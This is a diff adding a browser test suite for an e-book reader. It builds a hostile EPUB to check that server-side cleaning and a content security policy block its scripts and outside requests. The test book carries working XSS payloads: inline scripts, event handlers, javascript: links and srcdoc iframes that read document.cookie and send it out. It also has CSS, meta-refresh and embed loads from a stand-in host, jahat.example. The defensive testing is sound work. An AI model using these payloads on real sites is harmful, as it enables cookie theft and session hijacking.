@@ -1,0 +1,180 @@
+"""A book that attacks: in a real browser none of its tricks works.
+
+Content meets two walls: it is cleaned on the server, and its content policy takes away what was
+not cleaned. Each test runs with both, and again with the cleaning switched off, so that the second
+wall is seen to hold by itself.
+"""
+
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, Request, expect
+
+from rontal.reading import sanitise
+from tests.catalogue import epubs
+from tests.journeys.test_reading import frame_of, left_calmly, open_book
+
+__all__ = ["left_calmly"]
+
+OWN = "top.stolen = document.cookie || 'ran'; fetch('/koleksi/?curi=' + document.cookie).catch(String);"
+BODY = f"""
+<h1 onclick="{OWN}">Bab satu</h1>
+<p class="cover">Menutupi seluruh layar</p>
+<script>{OWN}</script>
+<script src="https://jahat.example/skrip.js"></script>
+<script src="/static/ui/ui.js"></script>
+<script src="skrip.js"></script>
+<script type="module">{OWN}</script>
+<img src="tidak-ada.png" onerror="{OWN}" alt=""/>
+<img src="https://jahat.example/titik.png" alt=""/>
+<img src="/keluar/" alt=""/>
+<svg xmlns="http://www.w3.org/2000/svg" onload="{OWN}"><script>{OWN}</script>
+<image href="https://jahat.example/svg.png" width="1" height="1"/>
+<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://jahat.example/"/></foreignObject>
+<a href="javascript:{OWN}"><text y="10">klik</text></a></svg>
+<iframe src="/rak/"></iframe>
+<iframe srcdoc="&lt;script&gt;{OWN}&lt;/script&gt;"></iframe>
+<object data="https://jahat.example/benda"></object>
+<embed src="https://jahat.example/sisip"/>
+<form action="/keluar/" method="post"><button id="kirim">Lanjut</button></form>
+<a id="skrip" href="javascript:{OWN}">Bab berikut</a>
+<a id="atas" target="_top" href="/keluar/">Keluar</a>
+<video src="https://jahat.example/film.mp4" autoplay="autoplay"></video>
+<p style="background: url(https://jahat.example/latar.png)">x</p>
+"""
+REFRESH = '<meta http-equiv="refresh" content="0;url=https://jahat.example/pindah"/>'
+HEAD = """
+<meta name="rontal" content="page"/>
+<base href="https://jahat.example/"/>
+<link rel="stylesheet" href="https://jahat.example/gaya.css"/>
+<link rel="prefetch" href="https://jahat.example/ambil"/>
+<style>@import url(https://jahat.example/impor.css);
+@font-face { font-family: x; src: url(https://jahat.example/huruf.woff2) }
+body { font-family: x; background: \\75rl(https://jahat.example/lolos.png) }
+.cover { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 99999 }</style>
+"""
+ITEMS = (*epubs.ITEMS, '<item id="js" href="skrip.js" media-type="text/javascript"/>')
+
+
+def hostile_book(refresh: str = "") -> bytes:
+    """The book; with `refresh` it also moves its own frame away."""
+    return epubs.book(
+        "Buku Jahat",
+        items=ITEMS,
+        changes={
+            "OEBPS/bab1.xhtml": epubs.chapter(BODY, HEAD + refresh),
+            "OEBPS/skrip.js": OWN,
+            "OEBPS/gaya.css": "@import 'https://jahat.example/lain.css'; body { color: black }",
+        },
+    )
+
+
+@pytest.fixture(params=["cleaned", "policy alone"])
+def walls(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
+    """Both walls, or only the content policy."""
+    if request.param == "policy alone":
+        monkeypatch.setattr(sanitise, "clean_document", lambda content, _book: content)
+        monkeypatch.setattr(sanitise, "clean_styles", lambda css, _book: css)
+    return str(request.param)
+
+
+@pytest.fixture
+def requests_of(page: Page) -> list[Request]:
+    """Every request that the browser tries."""
+    made: list[Request] = []
+    page.on("request", lambda request: made.append(request))
+    return made
+
+
+def test_nothing_in_a_hostile_book_runs_or_leaves(
+    page: Page, live_server: Any, walls: str, requests_of: list[Request]
+) -> None:
+    page.context.add_cookies([{"name": "rahasia", "value": "manis", "url": live_server.url}])
+    address = open_book(page, live_server, hostile_book())
+    frame = frame_of(page)
+    assert frame.locator("h1").inner_text() == "Bab satu"
+    page.wait_for_timeout(1000)
+    frame.locator("h1").click(force=True)
+    page.wait_for_timeout(300)
+    assert page.url == address, "the book moved the page"
+    assert page.evaluate("top.stolen") is None, "a script of the book ran"
+    arrived = [made for made in requests_of if made.failure is None]
+    assert [made.url for made in arrived if "jahat.example" in made.url] == []
+    assert [made.url for made in arrived if "curi" in made.url] == []
+    wandered = [made.url for made in arrived if made.url.endswith(("/keluar/", "/rak/"))]
+    assert wandered == []
+
+
+def test_what_a_hostile_book_wants_clicked_does_nothing(
+    page: Page, live_server: Any, walls: str, requests_of: list[Request]
+) -> None:
+    address = open_book(page, live_server, hostile_book())
+    frame = frame_of(page)
+    page.wait_for_timeout(300)
+    for name in ("#skrip", "#atas", "#kirim"):
+        if frame.locator(name).count():
+            frame.locator(name).evaluate("element => element.click()")
+            page.wait_for_timeout(200)
+    assert page.url == address
+    assert page.evaluate("top.stolen") is None
+    left = [made.url for made in requests_of if made.failure is None]
+    assert [url for url in left if url.endswith("/keluar/")] == []
+    page.goto(f"{live_server.url}/rak/")
+    expect(page.get_by_role("heading", name="Rak saya")).to_be_visible()
+
+
+def test_a_frame_that_moves_itself_gets_nowhere(
+    page: Page, live_server: Any, walls: str, requests_of: list[Request]
+) -> None:
+    address = open_book(page, live_server, hostile_book(REFRESH))
+    page.wait_for_timeout(1500)
+    assert page.url == address
+    arrived = [made.url for made in requests_of if made.failure is None]
+    assert [url for url in arrived if "jahat.example" in url] == []
+
+
+def test_a_page_that_covers_itself_covers_no_button(page: Page, live_server: Any) -> None:
+    open_book(page, live_server, hostile_book())
+    frame_of(page)
+    page.get_by_role("button", name="Daftar isi").click()
+    page.get_by_role("button", name="Bab dua").click()
+    expect(page.locator("[data-chapter]")).to_have_text("Bab dua")
+
+
+def test_a_cleaned_page_asks_for_nothing_at_all_that_is_not_the_books(
+    page: Page, live_server: Any, requests_of: list[Request]
+) -> None:
+    address = open_book(page, live_server, hostile_book())
+    frame_of(page)
+    page.wait_for_timeout(500)
+    content = address.removeprefix(live_server.url) + "isi/"
+    allowed = (address, f"{live_server.url}/static/", live_server.url + content)
+    assert [made.url for made in requests_of if not made.url.startswith(allowed)] == []
+
+
+def test_the_control_a_page_without_any_wall_is_owned(
+    page: Page, live_server: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from rontal.web.collection import policy
+
+    monkeypatch.setattr(sanitise, "clean_document", lambda content, _book: content)
+    monkeypatch.setattr(policy, "guard_content", open_door)
+    open_book(page, live_server, hostile_book())
+    page.wait_for_timeout(1500)
+    assert page.evaluate("top.stolen"), "the attack is no attack: these tests prove nothing"
+
+
+def open_door(response: Any, _content_at: str) -> None:
+    """A policy that allows everything."""
+    response.headers["Content-Security-Policy"] = "default-src * 'unsafe-inline'"
+
+
+def test_content_opened_by_itself_is_as_harmless(
+    page: Page, live_server: Any, walls: str, requests_of: list[Request]
+) -> None:
+    address = open_book(page, live_server, hostile_book())
+    page.goto(f"{address}isi/OEBPS/bab1.xhtml")
+    page.wait_for_timeout(800)
+    assert page.evaluate("window.stolen") is None
+    arrived = [made.url for made in requests_of if made.failure is None]
+    assert [url for url in arrived if "jahat.example" in url or "curi" in url] == []
